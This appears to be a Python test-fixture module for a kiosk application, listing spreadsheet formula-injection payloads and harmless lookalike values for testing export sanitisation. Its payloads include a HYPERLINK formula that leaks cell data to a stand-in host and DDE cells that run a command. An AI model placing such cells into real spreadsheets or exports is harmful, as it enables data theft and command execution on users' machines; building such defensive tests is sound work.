"""Hostile inputs the tests make for themselves: what an attacker, a careless editor or a
failing machine hands the kiosk."""

from __future__ import annotations

# --- Settings and homes (staff exit, settings, publishing, permissions) --------------------

# Cells a spreadsheet program would run as formulas, and honest values that look like them.
FORMULA_CELLS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''+two quotes",
)
LOOKALIKE_CELLS = ("-5", "+994 12 345 67 89", "-44", "@museum", "'tis the season", "5-7")
